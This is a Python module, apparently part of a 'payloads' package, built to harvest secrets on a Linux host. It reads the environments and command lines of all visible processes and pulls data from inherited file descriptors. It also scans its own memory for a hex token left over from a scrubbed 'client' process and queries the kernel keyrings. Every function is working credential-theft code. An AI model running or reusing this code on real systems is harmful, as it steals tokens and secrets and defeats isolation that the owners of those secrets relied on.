"""Find what this process was born with, and what others carry."""

import ctypes
import os
import re

from payloads.kernel import syscall

_READ, _SEARCH, _LINK = 11, 10, 8
_SESSION, _USER, _USER_SESSION = -3, -4, -5


def where_am_i():
    here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    return {"root": here, "cwd": os.getcwd(), "home": os.environ["HOME"], "pid": os.getpid()}


def environment():
    with open("/proc/self/environ", "rb") as file:
        return [dict(os.environ), file.read().decode("utf-8", "replace")]


def environment_of_others(pid):
    """Read the environment of every process that can be seen, and of the client."""
    return _of_each_process(pid, "environ")


def command_lines_of_others(pid):
    """Read the command line of every process that can be seen, and of the client."""
    return _of_each_process(pid, "cmdline")


def _of_each_process(pid, file):
    found, errors = [], []
    for name in [str(pid), *filter(str.isdigit, os.listdir("/proc"))]:
        try:
            with open(f"/proc/{name}/{file}", "rb") as opened:
                found.append(opened.read().decode("utf-8", "replace"))
        except OSError as error:
            errors.append(str(error))
    return [found, errors[:10]]


def inherited_descriptors():
    found = []
    for fd in range(3, 256):
        try:
            found.append(os.pread(fd, 4096, 0).decode("utf-8", "replace"))
        except OSError:
            continue
    return found


def own_memory(prefix):
    """Search all of this process's memory for something that looks like the token.
    A fork of the client would hold it, however well its environment was scrubbed."""
    pattern = re.compile(prefix.encode() + rb"[0-9a-f]{32}")
    found = set()
    memory = os.open("/proc/self/mem", os.O_RDONLY)
    with open("/proc/self/maps") as maps:
        areas = [line.split() for line in maps]
    for words in areas:
        start, end = (int(edge, 16) for edge in words[0].split("-"))
        if "r" not in words[1] or end - start > 1 << 30:
            continue
        try:
            data = os.pread(memory, end - start, start)
        except OSError:
            continue
        found.update(match.decode() for match in pattern.findall(data))
    return sorted(found)


def keyring(name):
    errors = []
    for keyring in (_USER, _SESSION, _USER_SESSION):
        try:
            key = syscall("keyctl", _SEARCH, keyring, b"user", name.encode(), 0)
            buffer = ctypes.create_string_buffer(256)
            size = syscall("keyctl", _READ, key, buffer, len(buffer))
            return buffer.raw[:size].decode()
        except OSError as error:
            errors.append(str(error))
    return errors
